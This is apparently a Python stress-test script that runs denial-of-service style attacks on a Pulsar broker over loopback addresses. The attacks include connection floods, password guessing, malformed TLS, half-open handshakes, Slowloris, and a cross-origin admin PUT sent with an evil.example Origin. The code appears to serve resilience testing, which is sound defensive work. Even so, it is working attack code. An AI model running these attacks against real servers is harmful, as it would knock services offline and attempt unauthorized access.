"""Peers that mean harm, until it is told to end: hostile.py HOST PULSAR-PORT PULSAR-TLS-PORT HTTP-PORT HTTPS-PORT [ATTACK...]

Without a name of an attack: all of them; the names are those of what is counted. `nothing` attacks nothing and is as busy: what attackers
take of the processors that they share with the broker.

They come from many addresses of loopback (127.0.66.1 and on), so that a limit for each address lets many of them in. Two tokens come in
the environment: CAR_TOKEN, of a role that may look up topics, and ADMIN_TOKEN, which a web page sends that its owner's browser has open.
It prints each second how many lookups were answered; on SIGTERM what each attack came to, as JSON, and ends. `attack.sh` measures clients with manners beside it.
"""

import json
import multiprocessing
import os
import signal
import socket
import ssl
import struct
import sys
import threading
import time

HOST = sys.argv[1]
PULSAR, PULSAR_TLS, HTTP, HTTPS = map(int, sys.argv[2:6])
CAR, ADMIN = os.environ["CAR_TOKEN"].encode(), os.environ["ADMIN_TOKEN"]
WANTED = sys.argv[6:]
ADDRESSES = 32
HALF_OPEN = 10_000

# What each attack came to. The lookups have a process of their own, and a counter between the two.
counts = {}
lookups_answered = multiprocessing.Value("Q", 0)


def count(what, number=1):
    counts[what] = counts.get(what, 0) + number


def varint(number):
    out = b""
    while number > 0x7F:
        out += bytes([number & 0x7F | 0x80])
        number >>= 7
    return out + bytes([number])


def field(number, value):
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def frame(kind, body_field, body):
    command = field(1, kind) + field(body_field, body)
    return struct.pack(">II", len(command) + 4, len(command)) + command


def connect(method=None, data=b""):
    credentials = field(3, data) + field(5, method) if method else b""
    return frame(2, 2, field(1, b"hostile") + credentials + field(4, 19))


def lookup(number):
    topic = b"persistent://public/default/none-%d" % number
    return frame(23, 23, field(1, topic) + field(2, number))


def dial(port, number, group):
    """From one of the group's addresses."""
    peer = socket.socket()
    peer.bind((f"127.0.{66 + group}.{1 + number % ADDRESSES}", 0))
    peer.settimeout(5)
    peer.connect((HOST, port))
    return peer


def forever(act):
    def run():
        number = 0
        while True:
            number += 1
            try:
                act(number)
            except OSError:
                # Refused at the door: what it is to come to. The next one may be let in.
                time.sleep(0.001)

    threading.Thread(target=run, daemon=True).start()


def connect_flood(number):
    with dial(PULSAR, number, 0) as peer:
        peer.sendall(connect())
        count("CONNECTs without credentials")


def bad_passwords(number):
    with dial(PULSAR, number, 1) as peer:
        peer.sendall(connect(b"basic", b"ann:guess-%d" % number))
        # The answer, or the end.
        peer.recv(1 << 10)
        count("bad passwords")


def garbage(number):
    port = [PULSAR, HTTP][number % 2]
    with dial(port, number, 2) as peer:
        peer.sendall(os.urandom(4096))
        count("garbage")


def bad_tls(number):
    """A record that is too large, a version that is none, a hello that says nothing, another protocol."""
    port = [PULSAR_TLS, HTTPS][number % 2]
    what = [
        b"\x16\x03\x01\xff\xff" + os.urandom(0xFFFF),
        b"\x16\x09\x09\x00\x10" + bytes(16),
        b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc" + bytes(0x3FFC),
        b"GET / HTTP/1.1\r\n\r\n",
    ][number // 2 % 4]
    with dial(port, number, 3) as peer:
        peer.sendall(what)
        count("oversize and malformed TLS")


def half_open(port, what, group):
    """Half a handshake of each of very many, held as long as the broker lets it."""
    held = []

    def act(number):
        peer = dial(port, number, group)
        peer.sendall(b"\x16\x03\x01\x02\x00\x01" if port == PULSAR_TLS else connect()[:5])
        held.append(peer)
        count(what)
        if len(held) > HALF_OPEN // 2:
            held.pop(0).close()

    return act


def slow_http(port, what, group):
    """Slowloris: a head, or a body, of which a little comes now and then."""
    held = []
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def act(number):
        peer = dial(port, number, group)
        if port == HTTPS:
            peer = context.wrap_socket(peer)
        body = b"Content-Length: 1000\r\n\r\n{" if number % 2 else b"X-"
        peer.sendall(b"POST /admin/v2/clusters/none HTTP/1.1\r\nHost: localhost\r\n" + body)
        held.append(peer)
        count(what)
        if len(held) > 500:
            held.pop(0).close()
        if number % 100 == 0:
            for slow in held:
                try:
                    slow.send(b"a")
                except OSError:
                    pass

    return act


def web_page(number):
    """A page of another site, or one whose name resolves to this machine, in a browser that has the admin's credentials."""
    host, origin = [("localhost", "http://evil.example"), ("evil.example", "http://evil.example")][number % 2]
    head = f"PUT /admin/v2/persistent/public/default/none-web-{number} HTTP/1.1\r\nHost: {host}:{HTTP}\r\nOrigin: {origin}\r\n"
    head += f"Authorization: Bearer {ADMIN}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    with dial(HTTP, number, 9) as peer:
        peer.sendall(head.encode())
        status = peer.recv(1 << 10).split(b" ")[1:2]
        count("web page refused" if status in ([b"401"], [b"403"]) else "web page let in")
    time.sleep(0.05)


def lookups():
    """Names that do not exist, two hundred at a time, each of them answered."""
    number = 0
    while True:
        try:
            with dial(PULSAR, number, 10) as peer:
                peer.sendall(connect(b"token", CAR))
                answers = peer.makefile("rb")
                next_frame(answers)
                while True:
                    peer.sendall(b"".join(lookup(number + more) for more in range(200)))
                    for _ in range(200):
                        next_frame(answers)
                    number += 200
                    with lookups_answered.get_lock():
                        lookups_answered.value += 200
        except OSError:
            time.sleep(0.01)


def next_frame(answers):
    head = answers.read(4)
    if len(head) < 4:
        raise OSError("closed")
    return answers.read(struct.unpack(">I", head)[0])


def nothing():
    while True:
        pass


ATTACKS = {
    "CONNECTs without credentials": connect_flood,
    "bad passwords": bad_passwords,
    "garbage": garbage,
    "oversize and malformed TLS": bad_tls,
    "half a CONNECT": half_open(PULSAR, "half a CONNECT", 4),
    "half a TLS handshake": half_open(PULSAR_TLS, "half a TLS handshake", 5),
    "slow HTTP": slow_http(HTTP, "slow HTTP", 6),
    "slow HTTPS": slow_http(HTTPS, "slow HTTPS", 7),
    "web page": web_page,
}
# These have processes of their own. The other attacks are threads of one process, and as busy as that is one of `nothing`.
PROCESSES = {"lookups of nothing": [lookups], "nothing": [nothing, nothing]}


def main():
    wanted = WANTED or [*ATTACKS, "lookups of nothing"]
    unknown = [name for name in wanted if name not in ATTACKS and name not in PROCESSES]
    if unknown:
        sys.exit(f"no attack: {unknown}; there are {[*ATTACKS, *PROCESSES]}")
    processes = [multiprocessing.Process(target=act, daemon=True) for name in wanted for act in PROCESSES.get(name, [])]
    for process in processes:
        process.start()
    for name in wanted:
        if name in ATTACKS:
            forever(ATTACKS[name])

    def end(*_):
        for process in processes:
            process.kill()
        counts["lookups of nothing"] = lookups_answered.value
        print(json.dumps(counts), flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, end)
    print("attacking", flush=True)
    while True:
        time.sleep(1)
        print("lookups", lookups_answered.value, flush=True)


main()
